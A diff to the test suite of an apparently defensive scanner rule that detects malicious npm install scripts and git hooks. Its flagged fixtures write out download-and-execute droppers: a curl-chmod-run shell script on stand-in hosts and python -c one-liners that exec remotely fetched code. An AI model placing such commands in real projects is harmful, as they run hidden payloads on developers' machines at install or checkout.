@@ -15,8 +15,25 @@ ruleTest(rule, {
     { name: 'prepare points core.hooksPath at .githooks holding a lint hook', files: { 'package.json': '{"scripts":{"prepare":"git config core.hooksPath .githooks"}}', '.githooks/pre-commit': '#!/bin/sh\nnpx lint-staged\n' } },
     { name: 'base64 decoded into a file, not a shell', files: { 'package.json': '{"scripts":{"postinstall":"echo aGVsbG8gd29ybGQgZnJvbSBhIGZpeHR1cmU= | base64 -d > banner.txt"}}' } },
     { name: 'base64 of a certificate piped to openssl', files: { '.devcontainer/devcontainer.json': '{"initializeCommand":"echo $CA_B64 | base64 -d | openssl x509 -noout -subject"}' } },
+    { name: 'multi-line script: a download saved, a different program run', files: { 'package.json': '{"scripts":{"postinstall":"sh scripts/data.sh"}}', 'scripts/data.sh': '#!/bin/sh\ncurl -fsSL https://example.com/data.json -o data.json\nchmod 644 data.json\nnode scripts/build.js\n' } },
+    { name: 'python -c one-liner that fetches but runs nothing', files: { '.husky/pre-push': 'python3 -c "import urllib.request as u; print(u.urlopen(\'https://status.example.org\').status)"\n' } },
   ],
   flagged: [
+    {
+      name: 'multi-line dropper script: download on one line, chmod and run on the next',
+      files: { 'packages/ui/package.json': '{"name":"@a/ui","scripts":{"prepare":"sh ./scripts/prepare.sh"}}', 'packages/ui/scripts/prepare.sh': '#!/bin/sh\ncurl -fsSL http://x.example:1244/p -o /tmp/.p >/dev/null 2>&1\nchmod +x /tmp/.p\n/tmp/.p >/dev/null 2>&1 &\n' },
+      findings: [{ line: 2, file: 'packages/ui/scripts/prepare.sh', severity: 'critical', message: /^Downloads a file and runs it — this script runs on npm install/ }],
+    },
+    {
+      name: 'inline preinstall python -c urlopen + exec',
+      files: { 'package.json': '{\n "scripts": {\n  "preinstall": "python3 -c \\"import urllib.request as u; exec(u.urlopen(\'https://cdn.example.invalid/x\').read())\\""\n }\n}' },
+      findings: [{ line: 3, severity: 'critical', confidence: 'high', message: /inline one-liner/ }],
+    },
+    {
+      name: 'a hook running a python -c one-liner that downloads and execs',
+      files: { '.husky/post-checkout': 'python3 -c "import urllib.request as u;exec(u.urlopen(\'http://x.example/h\').read())" >/dev/null 2>&1 &\n' },
+      findings: [{ line: 1, file: '.husky/post-checkout', severity: 'critical', message: /inline one-liner that downloads code and executes it/ }],
+    },
     {
       name: 'base64 command piped into a shell: postinstall and a devcontainer initializeCommand (runs on the host)',
       files: {
